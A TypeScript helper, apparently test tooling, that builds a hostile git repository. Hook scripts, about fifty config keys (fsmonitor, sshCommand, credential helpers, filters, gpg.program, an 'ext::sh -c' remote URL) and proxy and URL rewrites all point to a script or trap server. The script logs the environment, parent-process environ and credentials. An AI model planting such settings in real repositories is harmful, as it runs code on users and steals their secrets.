import { chmodSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

const HOOKS = [
    'pre-commit', 'prepare-commit-msg', 'commit-msg', 'post-commit', 'pre-push', 'post-merge', 'pre-merge-commit', 'post-checkout',
    'post-rewrite', 'reference-transaction', 'post-index-change',
    'fsmonitor-watchman', 'pre-receive', 'update', 'post-update', 'post-receive'
];

export interface Hostility {
    /** Of the repository, on the host. */
    readonly folder: string;
    /** The same folder as those see it whom the configuration wants to trap. */
    readonly seen: string;
    /** What every trap appends its environment and its input to. */
    readonly log: string;
    /** The remote that is meant, and the server that wants its visitors. */
    readonly origin: string;
    readonly trap: string;
}

/** Turns a repository into one whose every setting that names a program, an address or a file is a trap. */
export function makeHostile({ folder, seen, log, origin, trap }: Hostility): void {
    const run = `(env; cat /proc/$PPID/cmdline /proc/$PPID/environ) >> ${log} 2>/dev/null`;
    const hooks = join(folder, '.evil', 'hooks');
    mkdirSync(hooks, { recursive: true });
    for (const file of [
        ...HOOKS.map(name => join(hooks, name)), ...HOOKS.map(name => join(folder, '.git', 'hooks', name)), join(folder, '.evil', 'program')
    ]) {
        mkdirSync(join(file, '..'), { recursive: true });
        writeFileSync(file, `#!/bin/sh\n${run}\ncat >> ${log} </dev/null\n`);
        chmodSync(file, 0o755);
    }
    writeFileSync(join(folder, '.gitattributes'), '* filter=evil diff=evil merge=evil\n');
    writeFileSync(join(folder, '.evil', 'included'), `[credential]\n\thelper = "!${run};"\n`);
    const program = `${seen}/.evil/program`;
    const settings: [string, string][] = [
        ['core.fsmonitor', program], ['core.hooksPath', `${seen}/.evil/hooks`], ['core.sshCommand', program], ['core.gitProxy', program],
        ['core.askPass', program], ['core.pager', program], ['core.editor', program],
        ['core.alternateRefsCommand', program], ['sequence.editor', program], ['credential.helper', `!${run};`],
        [`credential.${origin}.helper`, `!${run}; cat >> ${log};`], ['credential.useHttpPath', 'true'],
        ['filter.evil.clean', `${run}; cat`], ['filter.evil.smudge', `${run}; cat`], ['filter.evil.required', 'true'],
        ['diff.evil.textconv', program], ['diff.evil.command', program], ['diff.external', program],
        ['merge.evil.driver', program], ['uploadpack.packObjectsHook', program], ['gpg.program', program], ['commit.gpgSign', 'true'],
        ['push.gpgSign', 'if-asked'], ['alias.push', `!${run}`], ['alias.fetch', `!${run}`],
        ['alias.bundle', `!${run}`], ['protocol.allow', 'always'], ['protocol.ext.allow', 'always'], ['http.proxy', trap],
        [`http.${origin}.proxy`, trap], ['http.sslVerify', 'false'], ['http.cookieFile', `${seen}/.evil/cookies`],
        ['http.saveCookies', 'true'], ['http.followRedirects', 'true'], [`url.${trap}/.insteadOf`, `${origin}/`],
        [`url.${trap}/x/.pushInsteadOf`, `${origin}/`], ['remote.origin.url', `ext::sh -c "${run}"`],
        ['remote.origin.pushurl', `${trap}/evil.git`], ['remote.origin.uploadpack', program], ['remote.origin.receivepack', program],
        ['remote.origin.vcs', 'ext'], ['submodule.recurse', 'true'], ['push.recurseSubmodules', 'on-demand'],
        ['include.path', `${seen}/.evil/included`], ['trace2.eventTarget', log], ['core.attributesFile', `${seen}/.gitattributes`],
        ['tar.tgz.command', program], ['man.viewer', program]
    ];
    writeFileSync(join(folder, '.git', 'config'), [
        '[core]\n\trepositoryformatversion = 0\n\tbare = false', ...settings.map(([name, value]) => setting(name, value))
    ].join('\n') + '\n');
}

function setting(name: string, value: string): string {
    const [first, last] = [name.indexOf('.'), name.lastIndexOf('.')];
    const section = first === last ? `[${name.slice(0, first)}]` : `[${name.slice(0, first)} "${name.slice(first + 1, last)}"]`;
    return `${section}\n\t${name.slice(last + 1)} = "${value.replace(/\\/g, '\\\\').replace(/"/g, '\\"')}"`;
}
